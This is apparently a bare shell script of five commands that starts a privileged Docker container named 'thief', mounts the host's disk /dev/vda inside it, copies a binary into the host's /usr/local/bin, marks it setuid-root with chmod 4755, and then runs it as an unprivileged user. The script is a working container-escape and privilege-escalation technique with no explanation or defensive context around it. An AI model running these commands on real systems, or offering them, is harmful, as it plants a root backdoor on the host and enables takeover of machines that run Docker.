docker run -d --name thief --privileged alpine sleep 3600
docker exec thief mount -t ext4 /dev/vda /mnt
docker exec thief cp /mnt/usr/bin/sleep /mnt/usr/local/bin/rootsleep
docker exec thief chmod 4755 /mnt/usr/local/bin/rootsleep
setpriv --reuid 1000 --regid 1000 --clear-groups setsid -f rootsleep 3600 > /dev/null 2>&1 < /dev/null
